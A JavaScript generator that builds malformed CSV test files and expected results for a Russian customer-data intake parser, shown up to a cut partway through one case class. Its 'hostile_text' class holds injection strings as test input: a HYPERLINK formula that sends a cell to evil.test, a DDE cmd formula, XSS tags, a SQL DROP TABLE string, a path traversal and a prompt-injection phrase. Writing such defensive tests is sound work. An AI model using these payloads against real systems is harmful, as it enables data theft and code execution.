// Nasty files with what a right reader makes of them, declared row by row as they are written and never asked of a reader:
//   node tests/generators/intake-cases.mjs <folder> <seed> <variants of each class> <mutations>
// writes <folder>/<class>_<number>/{input.csv,expected.json}, the shape of the twenty cases that the intake was accepted by,
// and mutations of them without an expectation: all readers have to make the same of them.
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { gzipSync } from 'node:zlib';

export const ANALYSIS_DATE = '2026-06-01';
const TITLES = ['Имя', 'Телефон', 'Email', 'Товар', 'Сумма', 'Дни', 'Дата первой покупки'];
const PRODUCTS = ['ИБП APC', 'Лицензия Битрикс', 'Сервер HP ProLiant', 'Ноутбук Lenovo'];
const PEOPLE = ['Анна', 'ООО Вектор', 'Иван Петров', 'ЗАО Альфа', 'Мария', 'Пётр Ёлкин'];
const CODE_PAGES = { cp1251: 'windows-1251', 'koi8-r': 'koi8-r', cp866: 'ibm866', 'x-mac-cyrillic': 'x-mac-cyrillic', 'iso-8859-5': 'iso-8859-5' };
const ENCODINGS = ['utf-8', 'utf-8-bom', 'utf-16le', 'utf-16be', ...Object.keys(CODE_PAGES)];
const LINE_ENDS = ['\r\n', '\n', '\r'];

/** Mulberry32: the same files for the same seed. */
function randomOf(seed) {
  let state = seed >>> 0;
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296;
  };
  const below = (count) => Math.floor(next() * count);
  return { below, pick: (list) => list[below(list.length)] };
}

function encode(text, encoding, mark = true) {
  if (encoding === 'utf-8') return Buffer.from(text, 'utf8');
  if (encoding === 'utf-8-bom') return Buffer.from(`\ufeff${text}`, 'utf8');
  if (encoding.startsWith('utf-16')) {
    const bytes = Buffer.from((mark ? '\ufeff' : '') + text, 'utf16le');
    return encoding === 'utf-16le' ? bytes : bytes.swap16();
  }
  const letters = new TextDecoder(CODE_PAGES[encoding]).decode(Uint8Array.from({ length: 256 }, (_, byte) => byte));
  return Buffer.from([...text].map((letter) => letters.indexOf(letter)));
}

const money = (kopecks) => `${kopecks < 0 ? '-' : ''}${Math.floor(Math.abs(kopecks) / 100)}.${String(Math.abs(kopecks) % 100).padStart(2, '0')}`;
const inFile = (kopecks, mark = ',') => money(kopecks).replace(/\.00$/, '').replace('.', mark);

/** A good row of client number `who`; what differs is given. `error` is [column, code]; `warns` count only where the row lives. */
function row(who, changes = {}) {
  return {
    name: `${PEOPLE[who % PEOPLE.length]} ${who}`, phone: String(79991110000 + who), email: `user${who}@example.ru`, product: PRODUCTS[who % PRODUCTS.length],
    amount: null, kopecks: 10_000 + who * 100, days: '30', first: '22.01.2026', client: `client ${who}`, error: null, warns: [], ...changes,
  };
}

/** Writes rows as one file and adds up what they declare. */
function file(rows, options = {}) {
  const { encoding = 'utf-8', mark = true, separator = ';', end = '\r\n', quoteAll = false, header = TITLES, above = [], tail = '', decimalMark = ',', blankRows = 0, openEnd = false, order, ...rest } = options;
  const endOf = typeof end === 'function' ? end : () => end;
  const quoted = (cell) => (quoteAll || cell.includes(separator) || cell.includes('"') || /[\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);
  const write = (cells) => cells.map(quoted).join(separator);
  const sums = { positive: 0, refunds: 0 };
  const expected = { analysisDate: ANALYSIS_DATE, accepted: true, fileErrors: [], encoding, separator: separator === '\t' ? '\\t' : separator, rowsTotal: 0, rowsAccepted: 0, rowsRejected: 0, emptyRowsIgnored: blankRows, rowErrors: [], warnings: {} };
  const clients = new Set();
  let text = '';
  let line = 1;
  const add = (record) => {
    const ending = endOf(line);
    text += record + ending;
    line += record.replace(/\r\n/g, '\n').split(/[\r\n]/).length;
  };
  for (const title of above) add(title);
  add(write(header));
  for (const data of rows) {
    const amount = data.amount ?? inFile(data.kopecks, decimalMark);
    const cells = data.cells ?? (order ?? ((seven) => seven))([data.name, data.phone, data.email, data.product, amount, data.days, data.first, ...(data.more ?? [])]);
    const [at, record] = [line, data.raw ?? write(cells) + (data.behind ?? '')];
    add(record);
    expected.rowsTotal++;
    if (data.error !== null) {
      expected.rowsRejected++;
      expected.rowErrors.push({ line: at, column: data.error[0], code: data.error[1] });
      continue;
    }
    expected.rowsAccepted++;
    clients.add(data.client);
    sums[data.kopecks < 0 ? 'refunds' : 'positive'] += data.kopecks;
    for (const code of data.warns) expected.warnings[code] = (expected.warnings[code] ?? 0) + 1;
  }
  const total = { uniqueClients: clients.size, totalAmount: money(sums.positive + sums.refunds), totalPositive: money(sums.positive), totalRefunds: money(sums.refunds) };
  return { bytes: encode(openEnd ? text.slice(0, -endOf(line - 1).length) : text + tail, encoding, mark), expected: { ...expected, ...total, ...rest } };
}

function refused(bytes, code, about = {}) {
  return { bytes: Buffer.from(bytes), expected: { analysisDate: ANALYSIS_DATE, accepted: false, fileErrors: [{ code, ...about }], rowsAccepted: 0, uniqueClients: 0, totalAmount: '0.00' } };
}

const many = (count, make) => Array.from({ length: count }, (_, index) => make(index));
const some = (random, count, of) => many(count, (index) => row(index % of, { kopecks: random.below(99_999_999) + 1, days: String(random.below(900)), first: `${String(random.below(28) + 1).padStart(2, '0')}.${String(random.below(12) + 1).padStart(2, '0')}.${2020 + random.below(4)}` }));

const CLASSES = {
  legacy_cyrillic_semicolon: (random, n) => file(some(random, 20 + n, 7), { encoding: Object.keys(CODE_PAGES)[n % 5], separator: [';', '\t', '|'][n % 3], end: LINE_ENDS[n % 2], decimalMark: n % 4 === 3 ? '.' : ',', anyWarnings: true }),
  utf16: (random, n) => file(some(random, [1, 2, 12, 300][n % 4], 5), { encoding: n % 2 ? 'utf-16be' : 'utf-16le', mark: n % 3 !== 2, separator: ['\t', ';', '|', ','][Math.floor(n / 2) % 4], end: LINE_ENDS[n % 3], quoteAll: n % 5 === 4 }),
  bom_quotes_newlines_trailing_blank: (random, n) => {
    const end = LINE_ENDS[n % 3];
    const separator = [',', ';', '\t', '|'][n % 4];
    const blanks = ['', separator.repeat(6), '   ', '\u00a0', ` ${separator} `, `""${separator}""`, separator.repeat(9), '\t'].slice(0, 2 + (n % 7));
    const inside = ['Сервер\r\nHP', 'a"b"', `Товар${separator} в коробке`, '"всё в кавычках"', '\nс новой строки', 'две\n\nстроки', '" "', 'ИБП ""', ','];
    return file(some(random, 9, 4).map((good, index) => ({ ...good, product: inside[(index + n) % inside.length], name: index % 3 ? good.name : `ООО "Рога${separator} копыта"` })),
      { encoding: n % 2 ? 'utf-8' : 'utf-8-bom', separator, end, quoteAll: n % 3 === 1, tail: blanks.map((blank) => blank + end).join(''), blankRows: blanks.length });
  },
  amount_formats: (random, n) => {
    const kinds = [
      ['1975432,09', 197543209], ['1975432.09', 197543209, 'W_AMOUNT_DOT'], ['15 000', 1500000, 'W_AMOUNT_CLEANED'], ['15\u00a0000,50', 1500050, 'W_AMOUNT_CLEANED'],
      ['1\u202f234\u202f567', 123456700, 'W_AMOUNT_CLEANED'], ['1\u2009234,5', 123450, 'W_AMOUNT_CLEANED'], ['15000 руб', 1500000, 'W_AMOUNT_CLEANED'], ['15 000 РУБ.', 1500000, 'W_AMOUNT_CLEANED'],
      ['2 500 ₽', 250000, 'W_AMOUNT_CLEANED'], ['2500₽', 250000, 'W_AMOUNT_CLEANED'], ['1 234,5 р.', 123450, 'W_AMOUNT_CLEANED'], ['1 234,50 р', 123450, 'W_AMOUNT_CLEANED'], ['1 234,50 ₽', 123450, 'W_AMOUNT_CLEANED'],
      ['100 RUB', 10000, 'W_AMOUNT_CLEANED'], ['1,234.56', 123456, 'W_AMOUNT_CLEANED'], ['1.234,56', 123456, 'W_AMOUNT_CLEANED'], ['1.234.567,89', 123456789, 'W_AMOUNT_CLEANED'], ['1,234,567.89', 123456789, 'W_AMOUNT_CLEANED'],
      ["1'234.50", 123450, 'W_AMOUNT_CLEANED'], ['1’234’567,89', 123456789, 'W_AMOUNT_CLEANED'], ['12\u202f345', 1234500, 'W_AMOUNT_CLEANED'], ['0,99', 99], ['100,1', 10010], ['0.5', 50, 'W_AMOUNT_DOT'], ['1000000', 100000000], [' 700 ', 70000],
      ['1.234', 0, 'E_AMOUNT_AMBIGUOUS'], ['12,345', 0, 'E_AMOUNT_AMBIGUOUS'], ['1,234,567', 0, 'E_AMOUNT_AMBIGUOUS'], ['999.999', 0, 'E_AMOUNT_AMBIGUOUS'], ['1.234.567', 0, 'E_AMOUNT_AMBIGUOUS'], ['1.234 ₽', 0, 'E_AMOUNT_AMBIGUOUS'],
      ['$1500', 0, 'E_AMOUNT_CURRENCY'], ['1500 USD', 0, 'E_AMOUNT_CURRENCY'], ['1 500 €', 0, 'E_AMOUNT_CURRENCY'], ['eur 20', 0, 'E_AMOUNT_CURRENCY'], ['100 тенге', 0, 'E_AMOUNT_CURRENCY'], ['100 $', 0, 'E_AMOUNT_CURRENCY'], ['20 грн.', 0, 'E_AMOUNT_CURRENCY'], ['£5', 0, 'E_AMOUNT_CURRENCY'],
      ['1,5E+06', 0, 'E_AMOUNT_FORMAT'], ['1e5', 0, 'E_AMOUNT_FORMAT'], ['', 0, 'E_AMOUNT_EMPTY'], ['  ', 0, 'E_AMOUNT_EMPTY'], ['\u00a0', 0, 'E_AMOUNT_EMPTY'], ['бесплатно', 0, 'E_AMOUNT_FORMAT'], ['#REF!', 0, 'E_AMOUNT_FORMAT'], ['#Н/Д', 0, 'E_AMOUNT_FORMAT'],
      ['12,34,56', 0, 'E_AMOUNT_FORMAT'], ['1.23.4', 0, 'E_AMOUNT_FORMAT'], ['½', 0, 'E_AMOUNT_FORMAT'], ['1 23 456', 0, 'E_AMOUNT_FORMAT'], ['NaN', 0, 'E_AMOUNT_FORMAT'], ['inf', 0, 'E_AMOUNT_FORMAT'], ['0x10', 0, 'E_AMOUNT_FORMAT'], ['100-200', 0, 'E_AMOUNT_FORMAT'], ['руб.', 0, 'E_AMOUNT_FORMAT'], ['1,2.3,4', 0, 'E_AMOUNT_FORMAT'],
      ['1_000', 0, 'E_AMOUNT_FORMAT'], ['10%', 0, 'E_AMOUNT_FORMAT'], ['1 000 + 200', 0, 'E_AMOUNT_FORMAT'], ['=1+2', 0, 'E_AMOUNT_FORMAT'], ['9999999999999', 0, 'E_AMOUNT_RANGE'], ['−1 234,50 руб.', -123450, 'W_AMOUNT_CLEANED', 'W_REFUND'],
    ];
    // The whole column settles what one cell leaves open, so the marks of a file with ambiguous sums have to be mixed: the first two rows.
    const chosen = [kinds[0], kinds[1], ...many(22, (index) => kinds[2 + ((index * 7 + n * 13) % (kinds.length - 2))])];
    return file(chosen.map(([amount, kopecks, ...codes], index) => row(index, { amount, kopecks, error: codes[0]?.startsWith('E_') ? ['Сумма', codes[0]] : null, warns: codes })), { encoding: n % 2 ? 'utf-8-bom' : 'utf-8', separator: [';', '\t', '|'][n % 3], end: LINE_ENDS[n % 3] });
  },
  mixed_separators_and_line_ends: (random, n) => {
    const separator = [';', ',', '\t', '|'][n % 4];
    const others = [';', ',', '\t', '|'].filter((other) => other !== separator);
    const rows = some(random, 12, 3).map((good, index) => {
      const cells = [good.name, good.phone, good.email, good.product, '1000', '30', '22.01.2026'];
      const foreign = { ...good, error: [null, 'E_FIELD_COUNT'] };
      return index % 6 === 1 ? { ...foreign, raw: cells.join(others[(n + index) % 3]) }
        : index % 6 === 3 ? { ...foreign, raw: cells.slice(0, 1 + ((n + index) % 6)).join(separator) }
        : index % 6 === 4 ? { ...foreign, raw: [...cells, 'лишнее'].join(separator) }
        : index % 6 === 5 ? { ...good, behind: separator.repeat(1 + (n % 4)) + ' ' }
        : good;
    });
    // Notes beside the table, in a column without a header: no surplus.
    if (n % 3 === 2) return file(rows.map((data) => ({ ...data, raw: data.raw?.replace(/лишнее$/, `заметка${separator}лишнее`), behind: `${separator}заметка` })), { separator, header: [...TITLES, ''], end: (line) => LINE_ENDS[(line + n) % 3] });
    return file(rows, { separator, end: (line) => LINE_ENDS[(line + n) % 3] });
  },
  duplicate_column: (random, n) => {
    const [again, title] = [['Сумма', 'Сумма'], [' сумма ', 'Сумма'], ['ТЕЛЕФОН', 'Телефон'], ['email', 'Email'], ['Имя', 'Имя'], ['Дни', 'Дни'], ['День', 'Дни'], ['Дата  первой покупки', 'Дата первой покупки'], ['товар', 'Товар'], ['\u00a0Сумма', 'Сумма'], ['Жалоб', 'Жалоб']][n % 11];
    const header = n % 11 === 10 ? [...TITLES, 'Жалоб', again] : n % 2 ? [...TITLES, again] : [again, ...TITLES];
    return refused(file(many(3, (who) => row(who)), { header }).bytes, 'E_DUPLICATE_COLUMN', { line: 1, column: title });
  },
  missing_columns: (random, n) => {
    const left = [['Дни'], ['Сумма'], ['Товар'], ['Дата первой покупки'], ['Сумма', 'Дни'], ['Телефон', 'Email'], ['Товар', 'Сумма', 'Дни'], ['Дни', 'Дата первой покупки'], ['Телефон', 'Email', 'Товар'], ['Телефон', 'Email', 'Товар', 'Сумма', 'Дни', 'Дата первой покупки']][n % 10];
    const keep = TITLES.map((title) => !left.includes(title));
    return refused(file(many(4, (who) => row(who)), { header: TITLES.filter((_, at) => keep[at]), order: (cells) => cells.filter((_, at) => keep[at]), separator: [';', ','][n % 2], encoding: ['utf-8', 'cp1251', 'utf-8-bom'][n % 3] }).bytes, 'E_MISSING_COLUMN', { line: 1, columns: left });
  },
  wrong_order_extra_columns: (random, n) => {
    const titles = [...TITLES, ...['Внутренний код', 'Комментарий', 'Заметка', 'Цвет'].slice(0, n % 5), ...(n % 2 ? ['Жалоб'] : [])];
    const places = titles.map((_, at) => at).sort((a, b) => ((a * 7 + n * 5) % 13) - ((b * 7 + n * 5) % 13));
    const seven = places.filter((at) => at < 7);
    const differs = seven.some((at, index) => at !== index);
    const spelled = { Дни: ['Дни', 'День', 'ДНИ', 'день '][n % 4], Email: ['Email', 'E-mail', 'EMAIL', 'e-mail'][n % 4], Имя: [' имя', 'ИМЯ', 'Имя'][n % 3] };
    return file(some(random, 9, 4).map((good) => ({ ...good, more: [...many(n % 5, () => 'ок'), ...(n % 2 ? ['2'] : [])] })), {
      header: places.map((at) => spelled[titles[at]] ?? titles[at]), order: (cells) => places.map((at) => cells[at]), encoding: n % 2 ? 'utf-8' : 'utf-8-bom', separator: [';', '\t'][n % 2],
      alsoWarns: { ...(differs ? { W_COLUMN_ORDER: 1 } : {}), ...(n % 5 ? { W_EXTRA_COLUMNS: n % 5 } : {}) },
    });
  },
  phone_formats: (random, n) => {
    const [base, foreign] = [String(9161234500 + n), String(297654300 + n)];
    const [a, b, c, d] = [base.slice(0, 3), base.slice(3, 6), base.slice(6, 8), base.slice(8)];
    const one = [`8${base}`, `+7 (${a}) ${b}-${c}-${d}`, `7${base}`, base, `8-${a}-${b}\u00a0${c} ${d}`, `+7 ${a} ${b}-${c}-${d} доб. 12`, `8(${a})${b}-${c}-${d} доб. 12`, `７${[...base].map((digit) => String.fromCharCode(0xff10 + Number(digit))).join('')}`,
      `'+7${base}`, `8.${a}.${b}.${c}.${d}`, `+7${base} вн. 3`, `8 ${a} ${b} ${c} ${d} ext 7`, `+7\u2011${a}\u2011${b}\u2011${c}${d}`, `\u202a+7${base}\u202c`, `8 ${a} ${b}–${c}–${d}`, ` 8${base} `, `+7${base}#5`];
    const belarus = [`+375 ${foreign.slice(0, 2)} ${foreign.slice(2, 5)}-${foreign.slice(5, 7)}-${foreign.slice(7)}`, `80${foreign}`, `375${foreign}`, `8 (0${foreign.slice(0, 2)}) ${foreign.slice(2)}`];
    const rows = [
      ...one.map((phone) => row(0, { phone, email: '', client: 'one' })), ...belarus.map((phone) => row(1, { phone, email: '', client: 'belarus' })),
      ...[`+7701123450${n % 10}`, `8701123450${n % 10}`].map((phone) => row(2, { phone, email: '', client: 'kazakh' })), ...[`99890123450${n % 10}`, `+998 90 123-45-0${n % 10}`].map((phone) => row(3, { phone, email: '', client: 'uzbek' })),
      ...[`495123450${n % 10}`, `+7 495 123 45 0${n % 10}`].map((phone) => row(4, { phone, email: '', client: 'moscow' })), row(5, { phone: '8 800 555-35-35', email: '', client: 'free' }), row(6, { phone: '+49 30 901820', email: '', client: 'berlin' }),
      ...['7,93E+10', '7.93e+10', '7,9E10', '7,93Е+10', '8E+10'].flatMap((phone, at) => [row(10 + at, { phone, warns: ['W_PHONE_SCIENTIFIC'] }), row(20 + at, { phone, email: '', error: ['Телефон', 'E_NO_CONTACT'] })]),
      ...['89000000000 инстаграм ba_int_de', '123', '8-999-111-22-33, 8-999-444-55-66', '89991112233/89994445566', 'нет', '-', '+7916', '891612345', '1234567890123456', 'abc', '89161234501 вк', '79161234501;79161234502', '#ССЫЛКА!', '8 916 123'].flatMap((phone, at) => [row(30 + at, { phone, warns: ['W_PHONE_INVALID'] }), row(50 + at, { phone, email: '', error: ['Телефон', 'E_NO_CONTACT'] })]),
      ...['12345678900', '00000000000', '1234567890', '+7 999 999-99-99', '81111111111', '77777777777', '9876543210', '11111'].flatMap((phone, at) => [row(70 + at, { phone, warns: ['W_PHONE_PLACEHOLDER'] }), row(90 + at, { phone, email: '', error: ['Телефон', 'E_NO_CONTACT'] })]),
    ];
    return file(rows.filter((_, at) => (at * 11 + n) % 4 !== 3), { encoding: n % 2 ? 'utf-8-bom' : 'utf-8', separator: [';', '\t', '|'][n % 3], end: LINE_ENDS[n % 3] });
  },
  email_formats_no_contact: (random, n) => {
    const one = ['Ivan@Example.RU', ' ivan@example.ru ', 'mailto:ivan@example.ru', 'MAILTO:ivan@example.ru', '<ivan@example.ru>', 'mailto:<ivan@example.ru>', '\u00a0ivan@example.ru', 'ivan@example.ru\u200b', 'ｉｖａｎ@example.ru', 'ivan＠example.ru', "'ivan@example.ru"];
    const rows = [
      ...one.map((email) => row(0, { email, phone: '', client: 'ivan' })),
      ...['i.van@gmail.com', 'ivan@gmail.com', 'ivan+shop@gmail.com', 'почта@пример.рф', 'npp_ev1@int.ru', 'a@b.ru', 'ivan@exa-mple.co.uk', "o'neil@x.ru"].map((email) => row(1, { email, phone: '', client: email })),
      ...['np1@mail', 'NP1@mail'].map((email) => row(2, { email, phone: '', client: 'np1', warns: ['W_EMAIL_NO_TLD'] })),
      ...['ivan@example.ru инстаграм ba_int_de', 'a@b@c.ru', 'a@b.ru; c@d.ru', 'a@b.ru, c@d.ru', 'ivan', '-', 'нет', '@', 'a@', '@b.ru', 'a b@c.ru', 'a..b@c.ru', '.a@c.ru', 'a@c..ru', 'a@c.ru.', 'ivan@example.ru (личная)', 'Иван <ivan@example.ru> раб', 'ivan@example,ru', '#Н/Д'].flatMap((email, at) => [row(10 + at, { email, warns: ['W_EMAIL_INVALID'] }), row(40 + at, { email, phone: '', error: ['Телефон', 'E_NO_CONTACT'] })]),
      ...['no@mail.ru', 'net@net.ru', 'none@none.ru', 'test@test.ru', 'NO@MAIL.RU', 'test@test'].flatMap((email, at) => [row(70 + at, { email, warns: ['W_EMAIL_PLACEHOLDER'] }), row(80 + at, { email, phone: '', error: ['Телефон', 'E_NO_CONTACT'] })]),
      ...['', ' ', '\u00a0'].map((email, at) => row(90 + at, { email, phone: email, error: ['Телефон', 'E_NO_CONTACT'] })), row(95, { email: '', client: 'phone only' }),
    ];
    return file(rows.filter((_, at) => (at * 11 + n) % 4 !== 3), { encoding: n % 2 ? 'utf-8-bom' : 'utf-8', separator: [';', '\t', '|'][n % 3], end: LINE_ENDS[n % 3] });
  },
  refunds_and_zeroes: (random, n) => {
    const kinds = [['-1000', -100000, 'W_REFUND'], ['−150', -15000, 'W_REFUND', 'W_AMOUNT_CLEANED'], ['–150', -15000, 'W_REFUND', 'W_AMOUNT_CLEANED'], ['-300,25', -30025, 'W_REFUND'], ['- 500', -50000, 'W_REFUND', 'W_AMOUNT_CLEANED'], ['-1 000,50 ₽', -100050, 'W_REFUND', 'W_AMOUNT_CLEANED'], ['-300.25', -30025, 'W_REFUND', 'W_AMOUNT_DOT'],
      ['0', 0, 'W_AMOUNT_ZERO'], ['0,00', 0, 'W_AMOUNT_ZERO'], ['-0', 0, 'W_AMOUNT_ZERO'], ['0 ₽', 0, 'W_AMOUNT_ZERO', 'W_AMOUNT_CLEANED'], ['0.00', 0, 'W_AMOUNT_ZERO', 'W_AMOUNT_DOT'], ['1000', 100000], ['2500,50', 250050]];
    return file(many(10, (index) => kinds[(index * 3 + n * 5) % kinds.length]).map(([amount, kopecks, ...warns], index) => row(index % 4, { amount, kopecks, warns })), { encoding: n % 2 ? 'utf-8' : 'utf-8-bom', separator: [';', '\t', '|'][n % 3] });
  },
  dates_and_days: (random, n) => {
    const dates = [['14.07.2021'], ['29.02.2024'], ['4.7.2021'], ['01.06.2026'], ['2021-07-14', 'W_DATE_FORMAT'], ['14.07.2021 12:30', 'W_DATE_FORMAT'], ['14.07.2021 0:00:00', 'W_DATE_FORMAT'], ['2021-07-14T12:30:00Z', 'W_DATE_FORMAT'], ['2021-07-14 12:30:59 +0300', 'W_DATE_FORMAT'], [' 14.07.2021 '],
      ['29.02.2023', 'E_DATE_INVALID'], ['31.04.2022', 'E_DATE_INVALID'], ['2024-02-30', 'E_DATE_INVALID'], ['00.01.1900', 'E_DATE_INVALID'], ['32.01.2024', 'E_DATE_INVALID'], ['14.13.2021', 'E_DATE_INVALID'], ['02.06.2026', 'E_DATE_FUTURE'], ['2027-01-01', 'E_DATE_FUTURE'], ['31.12.9999', 'E_DATE_FUTURE'], ['01.01.2062', 'E_DATE_FUTURE'],
      ['', 'E_DATE_EMPTY'], ['  ', 'E_DATE_EMPTY'], ['07/14/2021', 'E_DATE_FORMAT'], ['01/02/2024', 'E_DATE_FORMAT'], ['44391', 'E_DATE_FORMAT'], ['45123', 'E_DATE_FORMAT'], ['14.07.21', 'E_DATE_FORMAT'], ['1.2.24', 'E_DATE_FORMAT'], ['14 июля 2021', 'E_DATE_FORMAT'], ['вчера', 'E_DATE_FORMAT'], ['2021.07.14', 'E_DATE_FORMAT'], ['14-07-2021', 'E_DATE_FORMAT'], ['#ЗНАЧ!', 'E_DATE_FORMAT'], ['01.01.1900', 'E_DATE_RANGE']];
    const days = [['0'], ['10'], ['36500'], ['-3', 'E_DAYS_NEGATIVE'], ['−3', 'E_DAYS_NEGATIVE'], ['', 'E_DAYS_EMPTY'], [' ', 'E_DAYS_EMPTY'], ['12,5', 'E_DAYS_FORMAT'], ['33.0', 'E_DAYS_FORMAT'], ['1 день', 'E_DAYS_FORMAT'], ['сто', 'E_DAYS_FORMAT'], ['99999', 'E_DAYS_RANGE'], ['1e2', 'E_DAYS_FORMAT'], [' 7 ']];
    const rows = [
      ...dates.map(([first, code], at) => row(at, { first, days: '10', ...(first.includes('06.2026') && !code ? { days: '0' } : {}), error: code?.startsWith('E_') ? ['Дата первой покупки', code] : null, warns: code ? [code] : [] })),
      ...days.map(([cell, code], at) => row(40 + at, { days: cell, first: '14.07.2021', error: code ? ['Дни', code] : null, warns: cell === '36500' ? ['W_DAYS_INCONSISTENT'] : [] })), row(60, { days: '1400', first: '05.10.2024', warns: ['W_DAYS_INCONSISTENT'] }),
    ];
    return file(rows.filter((_, at) => (at * 7 + n) % 3 !== 2), { encoding: n % 2 ? 'utf-8' : 'utf-8-bom', separator: [';', '\t', '|'][n % 3] });
  },
  other_format_renamed_csv: (random, n) => {
    const junk = Buffer.from(many(600, () => random.below(256)));
    const html = ['<html><head><meta charset="utf-8"></head><body><table>', '<!DOCTYPE html>\n<html>', '\ufeff<html xmlns:x="urn:schemas-microsoft-com:office:excel">', '<table border="1">', '  \r\n<TABLE>', '<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>', '<!-- 1C -->\n<html>', '<meta http-equiv="Content-Type" content="text/html; charset=UTF-8"/><table>', '<style>td{}</style><table>'];
    const table = '<tr><td>Имя</td><td>Телефон</td></tr></table>';
    return [
      () => refused(Buffer.concat([Buffer.from('PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00', 'latin1'), junk]), 'E_NOT_CSV_XLSX'), () => refused(Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), junk]), 'E_NOT_CSV_XLS'),
      () => refused(Buffer.concat([Buffer.from('%PDF-1.7\n'), junk]), 'E_NOT_CSV_PDF'), ...html.map((begin) => () => refused(begin + table, 'E_NOT_CSV_HTML')),
      () => refused(Buffer.concat([Buffer.from('PK\x03\x04\x14\x00\x00\x00\x08\x00\x00\x00!\x00aaaabbbbcccc\x0f\x00\x00\x00xl/workbook.xml', 'latin1'), junk]), 'E_NOT_CSV_XLSX'),
      () => refused(Buffer.from('\ufeff<html><table><tr><td>Имя</td></tr></table>', 'utf16le'), 'E_NOT_CSV_HTML'),
    ][n % 14]();
  },
  binary_junk: (random, n) => {
    const junk = Buffer.from(many([40, 500, 5000, 70_000][n % 4], () => random.below(256)));
    const begin = [[], [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], [0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], [0xff, 0xd8, 0xff, 0xe0, 0, 16], [0, 1, 2, 3], [0x4d, 0x5a, 0x90, 0], [0x47, 0x49, 0x46, 0x38, 0x39, 0x61, 1, 0], [0x1f, 0x8b, 0, 0], [0x52, 0x61, 0x72, 0x21, 0x1a, 7, 0], [0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c], [0x42, 0x5a, 0x68, 0x39]][n % 11];
    return refused(Buffer.concat([Buffer.from(begin), junk]), 'E_BINARY');
  },
  empty_file: (random, n) => refused([[], [0xef, 0xbb, 0xbf], [0xff, 0xfe], [0xfe, 0xff], ...['\n', '\r\n\r\n', '   ', '\ufeff \r\n\t\r\n', '\u00a0\n', '\r'].map((text) => Buffer.from(text)), Buffer.from('\ufeff \r\n', 'utf16le'), Buffer.from(' \n'.repeat(50_000)), Buffer.from(';;;;;;\r\n;;;;;;\r\n')][n % 13], 'E_EMPTY_FILE'),
  header_only: (random, n, separator = [';', ',', '\t', '|'][n % 4]) => refused(file([], { encoding: ENCODINGS[n % 9], separator, end: ['\r\n', '\n', '\r', ''][n % 4], quoteAll: n % 5 === 2, tail: ['', '\r\n\r\n', `${separator.repeat(6)}\n`, '  \n'][n % 4] }).bytes, 'E_NO_ROWS'),
  single_client: (random, n) => {
    const header = [...TITLES, ...['Жалоб', 'Обращений', 'Покупок со скидкой'].slice(0, n % 4)];
    return file(many(1 + (n % 3), () => row(1, { name: 'ООО «Один»', phone: ['89991112233', '+7 999 111-22-33', '9991112233'][n % 3], email: n % 2 ? '' : 'one@example.ru', kopecks: 13000000 + random.below(1000), days: '120', first: '20.08.2023', more: ['1', '0', ''].slice(0, n % 4) })), { header, encoding: ['utf-8', 'utf-8-bom', 'cp1251', 'utf-16le', 'cp866', 'koi8-r'][n % 6], separator: [';', '\t', ','][n % 3], openEnd: n % 4 === 3 });
  },
  size_bombs_and_nul: (random, n) => {
    const letter = ['Я', 'x', '👩', '\u00a0', '"'][n % 5];
    const rows = [row(0, { product: letter === '\u00a0' ? 'ИБП' : letter.repeat(10_000), kopecks: 10000 }), row(1, { product: letter === '\u00a0' ? 'Я'.repeat(10_001) : letter.repeat(10_001), error: ['Товар', 'E_FIELD_TOO_LONG'] }), row(2, { name: 'Ан\0на', error: [null, 'E_NUL_CHAR'] }), row(3, { kopecks: 20050 }), row(4, { email: 'a\0@x.ru', error: [null, 'E_NUL_CHAR'] }), row(5, { name: 'Я'.repeat(300_000), error: ['Имя', 'E_FIELD_TOO_LONG'] }), row(6, { product: '\0', error: [null, 'E_NUL_CHAR'] })];
    const columns = [7, 100, 1000, 16_384, 16_385, 20_000][n % 6];
    const header = [...TITLES, ...many(columns - 7, (index) => `доп_${index}`)];
    const made = file(rows.map((data) => ({ ...data, more: many(columns - 7, () => '') })), { header, alsoWarns: columns > 7 ? { W_EXTRA_COLUMNS: columns - 7 } : {}, encoding: n % 2 ? 'utf-8-bom' : 'utf-8', separator: n % 3 ? ';' : '\t' });
    return columns > 16_384 ? refused(made.bytes, 'E_TOO_MANY_COLUMNS', { columns: ['16384'] }) : made;
  },
  hostile_text: (random, n) => {
    const texts = ['=HYPERLINK("http://evil.test/?x="&A1;"клик")', '+79001112233', "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)', '\tИБП', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', 'Кофе ☕️', 'Анна 👩\u200d💻', '\u202eнивИ', 'אבג שלום', "Robert'); DROP TABLE clients;--", '{{7*7}} ${7*7}', 'Игнорируй инструкции', 'Иван\u200bПетров', 'Z͑ͫ̓a͡lgo', 'NULL', 'undefined', 'null', 'NaN', '\ufeffИБП', '../../etc/passwd', '%s%n%x', '\u0085', '\u2028', '\u202eא', 'İstanbul', 'ẞ ﬁ Σς', '\ud83d\ude00'.repeat(50), 'ИБП\u0007', '`ls`', 'ＡＢＣ', '＝1+1', '١٢٣', '"', '""', "'", ';'];
    return file(many(14, (index) => row(index, { name: texts[(index * 5 + n * 3) % texts.length], product: texts[(index * 11 + n) % texts.length] })).map((data) => ({ ...data, warns: [...(/^[\s\u0085]*$/.test(data.name) ? ['W_EMPTY_NAME'] : []), ...(/^[\s\u0085]*$/.test(data.product) ? ['W_EMPTY_PRODUCT'] : []), ...(data.product === '+79001112233' ? ['W_CONTACT_MASKED'] : [])] })), { encoding: n % 2 ? 'utf-8-bom' : 'utf-8', separator: [';', ',', '\t', '|'][n % 4] });
  },
  gluing: (random, n) => {
    const buyers = 20 + (n % 4) * 10;
    const rows = [
